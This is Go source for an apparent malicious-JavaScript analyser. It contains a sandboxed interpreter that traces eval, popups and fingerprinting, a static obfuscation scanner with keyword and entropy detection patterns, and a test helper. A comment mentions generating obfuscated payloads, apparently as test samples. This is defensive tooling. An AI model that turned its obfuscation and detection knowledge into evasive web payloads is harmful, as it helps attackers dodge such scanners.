	case nil, jsUndefined:
		return false
	case bool:
		return x
	case float64:
		return x != 0 && !math.IsNaN(x)
	case string:
		return x != ""
	default:
		return true
	}
}

func toString(v value) string {
	switch x := v.(type) {
	case nil, jsUndefined:
		return "undefined"
	case string:
		return x // the common case: no budget bookkeeping
	case *jsArray:
		// Arrays stringify recursively; a self-referencing array
		// (`a[0] = a`) would otherwise recurse forever, and even with a
		// depth cap a cyclic array fans out exponentially. Bound both
		// depth and total rendered bytes.
		rem := arrayRenderCap
		return renderArray(x, 0, &rem)
	default:
		return scalarString(v)
	}
}

const arrayRenderCap = 64 << 10

func renderArray(x *jsArray, depth int, rem *int) string {
	if depth >= 32 || *rem <= 0 {
		return ""
	}
	parts := make([]string, len(x.elems))
	for i, el := range x.elems {
		if *rem <= 0 {
			break
		}
		if inner, ok := el.(*jsArray); ok {
			parts[i] = renderArray(inner, depth+1, rem)
		} else {
			parts[i] = scalarString(el)
		}
		*rem -= len(parts[i]) + 1
	}
	return strings.Join(parts, ",")
}

// scalarString stringifies every non-array value.
func scalarString(v value) string {
	switch x := v.(type) {
	case nil, jsUndefined:
		return "undefined"
	case string:
		return x
	case bool:
		if x {
			return "true"
		}
		return "false"
	case float64:
		if x == math.Trunc(x) && math.Abs(x) < 1e15 {
			return strconv.FormatInt(int64(x), 10)
		}
		return strconv.FormatFloat(x, 'g', -1, 64)
	case *object:
		return "[object Object]"
	case *nativeFn:
		return "function " + x.name + "() { [native code] }"
	case *userFn:
		return "function () { ... }"
	}
	return fmt.Sprintf("%v", v)
}

func toNumber(v value) float64 {
	switch x := v.(type) {
	case float64:
		return x
	case bool:
		if x {
			return 1
		}
		return 0
	case string:
		n, err := strconv.ParseFloat(strings.TrimSpace(x), 64)
		if err != nil {
			return math.NaN()
		}
		return n
	default:
		return math.NaN()
	}
}

func looseEq(l, r value) bool {
	switch lv := l.(type) {
	case string:
		return lv == toString(r)
	case float64:
		return lv == toNumber(r)
	case bool:
		if rb, ok := r.(bool); ok {
			return lv == rb
		}
		return toNumber(l) == toNumber(r)
	case jsUndefined:
		_, rUndef := r.(jsUndefined)
		return rUndef || r == nil
	}
	return l == r
}

func typeOf(v value) string {
	switch v.(type) {
	case jsUndefined, nil:
		return "undefined"
	case string:
		return "string"
	case float64:
		return "number"
	case bool:
		return "boolean"
	case *nativeFn, *userFn:
		return "function"
	default:
		return "object"
	}
}

// --- host environment ---

// fingerprintProps are property reads that count as fingerprinting.
var fingerprintProps = map[string]bool{
	"navigator.useragent": true, "navigator.platform": true,
	"navigator.language": true, "navigator.plugins": true,
	"screen.width": true, "screen.height": true, "screen.colordepth": true,
}

// fingerprintEvents are event names whose registration counts as behaviour
// fingerprinting (the paper observed mouse-movement recording).
var fingerprintEvents = map[string]bool{
	"mousemove": true, "mousedown": true, "mouseup": true,
	"keydown": true, "keypress": true, "keyup": true, "scroll": true,
}

func (in *interp) getMember(obj value, prop string) (value, error) {
	o, ok := obj.(*object)
	if !ok {
		if s, isStr := obj.(string); isStr {
			return in.stringMember(s, prop)
		}
		if arr, isArr := obj.(*jsArray); isArr && prop == "length" {
			return float64(len(arr.elems)), nil
		}
		return jsUndefined{}, nil
	}
	if o.class == "navigator" || o.class == "screen" {
		key := o.class + "." + strings.ToLower(prop)
		if fingerprintProps[key] {
			if err := in.recordFingerprint(key); err != nil {
				return nil, err
			}
		}
	}
	if v, ok := o.props[prop]; ok {
		return v, nil
	}
	return jsUndefined{}, nil
}

func (in *interp) stringMember(s, prop string) (value, error) {
	switch prop {
	case "length":
		return float64(len(s)), nil
	case "charAt":
		return &nativeFn{name: "charAt", fn: func(_ *interp, _ value, args []value) (value, error) {
			i := 0
			if len(args) > 0 {
				i = int(toNumber(args[0]))
			}
			if i < 0 || i >= len(s) {
				return "", nil
			}
			return s[i : i+1], nil
		}}, nil
	case "charCodeAt":
		return &nativeFn{name: "charCodeAt", fn: func(_ *interp, _ value, args []value) (value, error) {
			i := 0
			if len(args) > 0 {
				i = int(toNumber(args[0]))
			}
			if i < 0 || i >= len(s) {
				return math.NaN(), nil
			}
			return float64(s[i]), nil
		}}, nil
	case "substring", "substr", "slice":
		return &nativeFn{name: prop, fn: func(_ *interp, _ value, args []value) (value, error) {
			start, end := 0, len(s)
			if len(args) > 0 {
				start = clamp(int(toNumber(args[0])), 0, len(s))
			}
			if len(args) > 1 {
				if prop == "substr" {
					end = clamp(start+int(toNumber(args[1])), start, len(s))
				} else {
					end = clamp(int(toNumber(args[1])), 0, len(s))
				}
			}
			if start > end {
				start, end = end, start
			}
			return s[start:end], nil
		}}, nil
	case "split":
		return &nativeFn{name: "split", fn: func(in *interp, _ value, args []value) (value, error) {
			sep := ""
			if len(args) > 0 {
				sep = toString(args[0])
			}
			parts := strings.Split(s, sep)
			// Charge the fresh backing array plus per-part header cost;
			// splitting on "" turns every byte into a string value.
			if err := in.m.charge(int64(len(parts))/16 + 1); err != nil {
				return nil, err
			}
			if err := in.m.chargeHeap(int64(len(parts)) * 16); err != nil {
				return nil, err
			}
			arr := &jsArray{elems: make([]value, len(parts))}
			for i, p := range parts {
				arr.elems[i] = p
			}
			return arr, nil
		}}, nil
	case "replace":
		return &nativeFn{name: "replace", fn: func(in *interp, _ value, args []value) (value, error) {
			if len(args) < 2 {
				return s, nil
			}
			out := strings.Replace(s, toString(args[0]), toString(args[1]), 1)
			if err := in.m.chargeHeap(int64(len(out))); err != nil {
				return nil, err
			}
			return out, nil
		}}, nil
	case "indexOf":
		return &nativeFn{name: "indexOf", fn: func(_ *interp, _ value, args []value) (value, error) {
			if len(args) < 1 {
				return float64(-1), nil
			}
			return float64(strings.Index(s, toString(args[0]))), nil
		}}, nil
	case "toLowerCase":
		return &nativeFn{name: "toLowerCase", fn: func(in *interp, _ value, _ []value) (value, error) {
			if err := in.m.chargeHeap(int64(len(s))); err != nil {
				return nil, err
			}
			return strings.ToLower(s), nil
		}}, nil
	case "toUpperCase":
		return &nativeFn{name: "toUpperCase", fn: func(in *interp, _ value, _ []value) (value, error) {
			if err := in.m.chargeHeap(int64(len(s))); err != nil {
				return nil, err
			}
			return strings.ToUpper(s), nil
		}}, nil
	}
	return jsUndefined{}, nil
}

func clamp(v, lo, hi int) int {
	if v < lo {
		return lo
	}
	if v > hi {
		return hi
	}
	return v
}

func (in *interp) installGlobals() {
	g := in.global

	// location object (shared by window.location and document.location).
	in.location = newObject("location")
	in.location.props["href"] = "http://sandbox.invalid/"
	in.location.props["hostname"] = "sandbox.invalid"
	in.location.props["protocol"] = "http:"

	// document.
	in.document = newObject("document")
	in.document.props["location"] = in.location
	in.document.props["cookie"] = ""
	in.document.props["referrer"] = ""
	in.document.props["write"] = &nativeFn{name: "write", fn: nativeDocumentWrite}
	in.document.props["writeln"] = &nativeFn{name: "writeln", fn: nativeDocumentWrite}
	in.document.props["getElementById"] = &nativeFn{name: "getElementById", fn: func(in *interp, _ value, _ []value) (value, error) {
		el := newObject("element")
		el.props["style"] = newObject("style")
		return el, nil
	}}
	in.document.props["createElement"] = &nativeFn{name: "createElement", fn: func(in *interp, _ value, args []value) (value, error) {
		el := newObject("element")
		el.props["style"] = newObject("style")
		if len(args) > 0 {
			el.props["tagName"] = strings.ToUpper(toString(args[0]))
		}
		return el, nil
	}}
	in.document.props["getElementsByTagName"] = &nativeFn{name: "getElementsByTagName", fn: func(in *interp, _ value, _ []value) (value, error) {
		el := newObject("element")
		el.props["style"] = newObject("style")
		return &jsArray{elems: []value{el}}, nil
	}}
	in.document.props["addEventListener"] = &nativeFn{name: "addEventListener", fn: nativeAddEventListener}
	in.document.props["attachEvent"] = &nativeFn{name: "attachEvent", fn: nativeAddEventListener}

	// navigator and screen.
	nav := newObject("navigator")
	nav.props["userAgent"] = "Mozilla/5.0 (Windows NT 6.1; rv:38.0) SandboxVM"
	nav.props["platform"] = "Win32"
	nav.props["language"] = "en-US"
	nav.props["plugins"] = &jsArray{}
	scr := newObject("screen")
	scr.props["width"] = float64(1920)
	scr.props["height"] = float64(1080)
	scr.props["colorDepth"] = float64(24)

	// window: aliases the global scope for the APIs we model.
	in.window = newObject("window")
	in.window.props["location"] = in.location
	in.window.props["document"] = in.document
	in.window.props["navigator"] = nav
	in.window.props["screen"] = scr
	in.window.props["open"] = &nativeFn{name: "open", fn: nativeWindowOpen}
	in.window.props["setTimeout"] = &nativeFn{name: "setTimeout", fn: nativeSetTimeout}
	in.window.props["setInterval"] = &nativeFn{name: "setInterval", fn: nativeSetTimeout}
	in.window.props["addEventListener"] = &nativeFn{name: "addEventListener", fn: nativeAddEventListener}
	in.window.props["attachEvent"] = &nativeFn{name: "attachEvent", fn: nativeAddEventListener}

	ext := newObject("externalinterface")
	ext.props["call"] = &nativeFn{name: "call", fn: func(in *interp, _ value, args []value) (value, error) {
		name := ""
		if len(args) > 0 {
			name = toString(args[0])
		}
		if err := in.m.chargeOutput(int64(len(name))); err != nil {
			return nil, err
		}
		in.trace.ExternalCalls = append(in.trace.ExternalCalls, name)
		return jsUndefined{}, nil
	}}

	stringObj := newObject("object")
	stringObj.props["fromCharCode"] = &nativeFn{name: "fromCharCode", fn: func(in *interp, _ value, args []value) (value, error) {
		var b strings.Builder
		for _, a := range args {
			b.WriteRune(rune(int(toNumber(a))))
		}
		if err := in.m.chargeHeap(int64(b.Len())); err != nil {
			return nil, err
		}
		return b.String(), nil
	}}

	mathObj := newObject("object")
	mathObj.props["floor"] = &nativeFn{name: "floor", fn: func(_ *interp, _ value, args []value) (value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		return math.Floor(toNumber(args[0])), nil
	}}
	mathObj.props["random"] = &nativeFn{name: "random", fn: func(_ *interp, _ value, _ []value) (value, error) {
		return 0.5, nil // deterministic sandbox: same trace every run
	}}
	mathObj.props["abs"] = &nativeFn{name: "abs", fn: func(_ *interp, _ value, args []value) (value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		return math.Abs(toNumber(args[0])), nil
	}}

	g.declare("window", in.window)
	g.declare("self", in.window)
	g.declare("top", in.window)
	g.declare("document", in.document)
	g.declare("location", in.location)
	g.declare("navigator", nav)
	g.declare("screen", scr)
	g.declare("ExternalInterface", ext)
	g.declare("String", stringObj)
	g.declare("Math", mathObj)
	g.declare("setTimeout", in.window.props["setTimeout"])
	g.declare("setInterval", in.window.props["setInterval"])
	g.declare("addEventListener", in.window.props["addEventListener"])
	g.declare("open", in.window.props["open"])

	g.declare("eval", &nativeFn{name: "eval", fn: nativeEval})
	g.declare("unescape", &nativeFn{name: "unescape", fn: nativeUnescape})
	g.declare("escape", &nativeFn{name: "escape", fn: nativeEscape})
	g.declare("decodeURIComponent", &nativeFn{name: "decodeURIComponent", fn: nativeUnescape})
	g.declare("encodeURIComponent", &nativeFn{name: "encodeURIComponent", fn: nativeEscape})
	g.declare("atob", &nativeFn{name: "atob", fn: func(in *interp, _ value, args []value) (value, error) {
		if len(args) == 0 {
			return "", nil
		}
		s := toString(args[0])
		if err := in.m.chargeHeap(int64(len(s))); err != nil {
			return nil, err
		}
		dec, err := base64.StdEncoding.DecodeString(s)
		if err != nil {
			return "", nil // invalid base64 decodes to empty, not an abort
		}
		return string(dec), nil
	}})
	g.declare("btoa", &nativeFn{name: "btoa", fn: func(in *interp, _ value, args []value) (value, error) {
		if len(args) == 0 {
			return "", nil
		}
		s := toString(args[0])
		if err := in.m.chargeHeap(int64(len(s)) * 2); err != nil {
			return nil, err
		}
		return base64.StdEncoding.EncodeToString([]byte(s)), nil
	}})
	g.declare("parseInt", &nativeFn{name: "parseInt", fn: func(_ *interp, _ value, args []value) (value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		base := 10
		if len(args) > 1 {
			if b := int(toNumber(args[1])); b >= 2 && b <= 36 {
				base = b
			}
		}
		s := strings.TrimSpace(toString(args[0]))
		end := 0
		for end < len(s) && isDigitInBase(s[end], base) {
			end++
		}
		if end == 0 {
			return math.NaN(), nil
		}
		v, err := strconv.ParseInt(s[:end], base, 64)
		if err != nil {
			return math.NaN(), nil
		}
		return float64(v), nil
	}})
	g.declare("alert", &nativeFn{name: "alert", fn: func(_ *interp, _ value, _ []value) (value, error) {
		return jsUndefined{}, nil
	}})
	g.declare("console", func() value {
		c := newObject("object")
		c.props["log"] = &nativeFn{name: "log", fn: func(_ *interp, _ value, _ []value) (value, error) {
			return jsUndefined{}, nil
		}}
		return c
	}())
}

func isDigitInBase(c byte, base int) bool {
	var d int
	switch {
	case c >= '0' && c <= '9':
		d = int(c - '0')
	case c >= 'a' && c <= 'z':
		d = int(c-'a') + 10
	case c >= 'A' && c <= 'Z':
		d = int(c-'A') + 10
	case c == '-' || c == '+':
		return false
	default:
		return false
	}
	return d < base
}

func nativeDocumentWrite(in *interp, _ value, args []value) (value, error) {
	var b strings.Builder
	for _, a := range args {
		b.WriteString(toString(a))
	}
	s := b.String()
	// A tripping write still records the prefix that fit the budget, so
	// partial traces up to the trip point stay deterministic.
	kept, err := in.m.takeOutput(int64(len(s)))
	if err != nil {
		if kept > 0 {
			in.trace.Writes = append(in.trace.Writes, s[:kept])
		}
		return nil, err
	}
	in.trace.Writes = append(in.trace.Writes, s)
	return jsUndefined{}, nil
}

func nativeWindowOpen(in *interp, _ value, args []value) (value, error) {
	target := ""
	if len(args) > 0 {
		target = toString(args[0])
	}
	if err := in.m.chargeOutput(int64(len(target))); err != nil {
		return nil, err
	}
	in.trace.Popups = append(in.trace.Popups, target)
	w := newObject("window")
	w.props["location"] = in.location
	return w, nil
}

func nativeSetTimeout(in *interp, _ value, args []value) (value, error) {
	in.trace.Timeouts++
	if len(args) == 0 {
		return float64(0), nil
	}
	// Timers run immediately in the sandbox — we want the behaviour, not
	// the timing.
	switch f := args[0].(type) {
	case string:
		if _, err := nativeEval(in, jsUndefined{}, []value{f}); err != nil {
			return nil, err
		}
	case *userFn, *nativeFn:
		if _, err := in.invoke(f, jsUndefined{}, nil); err != nil {
			return nil, err
		}
	}
	return float64(1), nil
}

func nativeAddEventListener(in *interp, _ value, args []value) (value, error) {
	if len(args) == 0 {
		return jsUndefined{}, nil
	}
	name := strings.ToLower(strings.TrimPrefix(toString(args[0]), "on"))
	if fingerprintEvents[name] {
		if err := in.recordFingerprint("event:" + name); err != nil {
			return nil, err
		}
	}
	// Fire the handler once so its payload is traced (mouse handlers on
	// malware pages typically trigger the popup/redirect).
	if len(args) > 1 {
		if _, err := in.invoke(args[1], jsUndefined{}, nil); err != nil {
			return nil, err
		}
	}
	return jsUndefined{}, nil
}

func nativeEval(in *interp, _ value, args []value) (value, error) {
	if len(args) == 0 {
		return jsUndefined{}, nil
	}
	src, ok := args[0].(string)
	if !ok {
		return args[0], nil // eval of a non-string returns it unchanged
	}
	in.trace.Evals++
	// Eval is the expensive re-entry point: surcharge it beyond the
	// per-token parse cost so nested decoder towers burn fuel fast.
	if err := in.m.charge(8 + int64(len(src))/16); err != nil {
		return nil, err
	}
	in.evalDepth++
	if in.evalDepth > in.trace.EvalDepth {
		in.trace.EvalDepth = in.evalDepth
	}
	defer func() { in.evalDepth-- }()
	if in.evalDepth > in.m.b.EvalDepth {
		return nil, errEvalDepth
	}
	prog, err := parseProgram(src, in.m)
	if err != nil {
		// Resource trips during the nested parse are fatal as always;
		// an unparseable eval argument is not — malware commonly evals
		// data — so plain syntax errors return undefined.
		var se *SandboxError
		if errors.As(err, &se) {
			return nil, err
		}
		return jsUndefined{}, nil
	}
	for _, s := range prog {
		if f, ok := s.(stmtFunc); ok {
			in.global.declare(f.name, &userFn{params: f.params, body: f.body, env: in.global})
		}
	}
	for _, s := range prog {
		if _, ok := s.(stmtFunc); ok {
			continue
		}
		if _, err := in.execStmt(s, in.global); err != nil {
			return nil, err
		}
	}
	return jsUndefined{}, nil
}

func nativeUnescape(in *interp, _ value, args []value) (value, error) {
	if len(args) == 0 {
		return "", nil
	}
	s := toString(args[0])
	if err := in.m.chargeHeap(int64(len(s))); err != nil {
		return nil, err
	}
	// url.QueryUnescape rejects stray '%'; fall back to a forgiving
	// decoder because malware often has junk percent sequences.
	if dec, err := url.QueryUnescape(strings.ReplaceAll(s, "+", "%2B")); err == nil {
		return dec, nil
	}
	return forgivingUnescape(s), nil
}

func forgivingUnescape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		if s[i] == '%' && i+2 < len(s) {
			hi, ok1 := hexVal(s[i+1])
			lo, ok2 := hexVal(s[i+2])
			if ok1 && ok2 {
				b.WriteByte(byte(hi<<4 | lo))
				i += 3
				continue
			}
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}

func nativeEscape(in *interp, _ value, args []value) (value, error) {
	if len(args) == 0 {
		return "", nil
	}
	out := Escape(toString(args[0]))
	if err := in.m.chargeHeap(int64(len(out))); err != nil {
		return nil, err
	}
	return out, nil
}

// Escape percent-encodes every byte outside [A-Za-z0-9], matching the old
// JS escape() closely enough for round-tripping with unescape(). The web
// generator uses it to build obfuscated payloads.
func Escape(s string) string {
	const hexDigits = "0123456789ABCDEF"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') {
			b.WriteByte(c)
			continue
		}
		b.WriteByte('%')
		b.WriteByte(hexDigits[c>>4])
		b.WriteByte(hexDigits[c&0xf])
	}
	return b.String()
}
