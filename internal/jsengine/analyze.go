package jsengine

import (
	"math"
	"strings"
)

// StaticReport is the result of static (no-execution) scanning of a script,
// the Zozzle-style half of the analysis.
type StaticReport struct {
	// Entropy is the Shannon entropy of the source in bits/byte. Packed
	// and encoded payloads push this toward 6+; plain JS sits near 4.5.
	Entropy float64
	// EscapeDensity is the fraction of source bytes that are part of %xx
	// escape sequences.
	EscapeDensity float64
	// HasEval, HasUnescape, HasFromCharCode flag the classic
	// deobfuscation trio.
	HasEval         bool
	HasUnescape     bool
	HasFromCharCode bool
	// WritesMarkup flags document.write calls whose visible arguments
	// contain markup.
	WritesMarkup bool
	// SetsLocation flags window.location(.href) assignment in source.
	SetsLocation bool
	// ExternalInterface flags ExternalInterface.call usage.
	ExternalInterface bool
	// FingerprintAPIs flags navigator/screen/mouse-event usage.
	FingerprintAPIs bool
	// LongStringLiteral flags a string literal over 512 bytes — packed
	// payloads are carried this way.
	LongStringLiteral bool
}

// Obfuscated reports the static obfuscation verdict: the eval-decode combo,
// or heavy escape density, or abnormal entropy alongside a long literal.
func (r StaticReport) Obfuscated() bool {
	if r.HasEval && (r.HasUnescape || r.HasFromCharCode) {
		return true
	}
	if r.EscapeDensity > 0.25 {
		return true
	}
	return r.Entropy > 5.4 && r.LongStringLiteral
}

// StaticScan performs token-level static analysis of src.
func StaticScan(src string) StaticReport {
	r := StaticReport{
		Entropy:       Entropy(src),
		EscapeDensity: escapeDensity(src),
	}
	tp := borrowToks()
	defer returnToks(tp)
	toks := lexInto(src, *tp)
	*tp = toks
	for i, t := range toks {
		switch t.kind {
		case tokIdent:
			switch t.text {
			case "eval":
				r.HasEval = true
			case "unescape", "decodeURIComponent", "atob":
				r.HasUnescape = true
			case "fromCharCode":
				r.HasFromCharCode = true
			case "navigator", "screen":
				r.FingerprintAPIs = true
			case "onmousemove", "onmousedown", "onkeydown", "mousemove", "mousedown", "keydown":
				r.FingerprintAPIs = true
			case "ExternalInterface":
				r.ExternalInterface = true
			case "location":
				// location followed by an assignment (possibly through
				// .href) later in the stream.
				if scanSetsLocation(toks[i:]) {
					r.SetsLocation = true
				}
			case "write", "writeln":
				if scanWriteMarkup(toks[i:]) {
					r.WritesMarkup = true
				}
			}
		case tokString:
			if len(t.text) > 512 {
				r.LongStringLiteral = true
			}
		}
	}
	return r
}

// scanSetsLocation checks whether the token run starting at "location" is
// an assignment sink: `location = `, `location.href = `, or
// `location.replace(`.
func scanSetsLocation(toks []token) bool {
	if len(toks) < 2 {
		return false
	}
	i := 1
	// Optional `.prop` chain.
	for i+1 < len(toks) && toks[i].kind == tokPunct && toks[i].text == "." && toks[i+1].kind == tokIdent {
		if toks[i+1].text == "replace" || toks[i+1].text == "assign" {
			return true
		}
		i += 2
	}
	return i < len(toks) && toks[i].kind == tokPunct && (toks[i].text == "=" || toks[i].text == "+=")
}

// scanWriteMarkup checks whether a write(...) call has a visible markup
// string argument.
func scanWriteMarkup(toks []token) bool {
	if len(toks) < 3 || toks[1].kind != tokPunct || toks[1].text != "(" {
		return false
	}
	depth := 0
	for _, t := range toks[1:] {
		if t.kind == tokPunct {
			switch t.text {
			case "(":
				depth++
			case ")":
				depth--
				if depth == 0 {
					return false
				}
			}
		}
		if t.kind == tokString && strings.Contains(t.text, "<") {
			return true
		}
	}
	return false
}

// Entropy returns the Shannon entropy of s in bits per byte (0 for empty).
func Entropy(s string) float64 {
	if len(s) == 0 {
		return 0
	}
	var counts [256]int
	for i := 0; i < len(s); i++ {
		counts[s[i]]++
	}
	total := float64(len(s))
	h := 0.0
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := float64(c) / total
		h -= p * math.Log2(p)
	}
	return h
}

func escapeDensity(s string) float64 {
	if len(s) == 0 {
		return 0
	}
	escaped := 0
	for i := 0; i+2 < len(s); i++ {
		if s[i] == '%' {
			if _, ok1 := hexVal(s[i+1]); ok1 {
				if _, ok2 := hexVal(s[i+2]); ok2 {
					escaped += 3
					i += 2
				}
			}
		}
	}
	return float64(escaped) / float64(len(s))
}

// Report is the combined static + dynamic analysis of one script.
type Report struct {
	Static StaticReport
	// Trace is the sandbox behaviour trace; nil when sandboxing was
	// disabled or the script was rejected as too complex.
	Trace *Trace
	// SandboxErr records a non-fatal execution problem. It is always a
	// *SandboxError (match with CodeOf): resource codes mean the script
	// outran its budget, EVAL_ERROR covers parse and evaluation
	// failures. The partial trace, if any, is still valid.
	SandboxErr error
}

// Options controls Analyze.
type Options struct {
	// Sandbox enables dynamic execution. The ablation benchmarks run
	// with it off to quantify what static-only scanning misses.
	Sandbox bool
	// Budget bounds the execution. Unset (non-positive) fields fall back
	// to DefaultBudget, so the zero value is the production budget.
	Budget Budget
}

// Analyze runs static scanning and, if requested, sandbox execution.
func Analyze(src string, opts Options) Report {
	rep := Report{Static: StaticScan(src)}
	if !opts.Sandbox {
		return rep
	}
	trace, err := ExecuteBudget(src, opts.Budget.withDefaults())
	rep.Trace = trace
	rep.SandboxErr = err
	return rep
}

// InjectedIframes extracts iframe fragments from the dynamic writes of a
// trace. The caller parses them with htmlparse; here we only split out the
// written fragments that contain an iframe tag.
func (t *Trace) InjectedIframes() []string {
	if t == nil {
		return nil
	}
	var out []string
	for _, w := range t.Writes {
		if strings.Contains(strings.ToLower(w), "<iframe") {
			out = append(out, w)
		}
	}
	return out
}
