// Package testutil holds helpers shared by test suites across packages.
package testutil

import (
	"runtime"
	"testing"
	"time"
)

// VerifyNoLeaks registers a cleanup that fails the test if the goroutine
// count has grown by the end of the test. Call it first thing, before the
// code under test spawns anything:
//
//	func TestPipeline(t *testing.T) {
//		testutil.VerifyNoLeaks(t)
//		...
//	}
//
// Finished goroutines are reaped asynchronously by the runtime, so the
// check polls with a grace period before declaring a leak rather than
// snapshotting once.
func VerifyNoLeaks(t testing.TB) {
	t.Helper()
	base := runtime.NumGoroutine()
	t.Cleanup(func() {
		deadline := time.Now().Add(2 * time.Second)
		var n int
		for {
			n = runtime.NumGoroutine()
			if n <= base {
				return
			}
			if time.Now().After(deadline) {
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		buf := make([]byte, 1<<20)
		buf = buf[:runtime.Stack(buf, true)]
		t.Errorf("goroutine leak: %d goroutines at cleanup, %d at start\n%s",
			n, base, buf)
	})
}
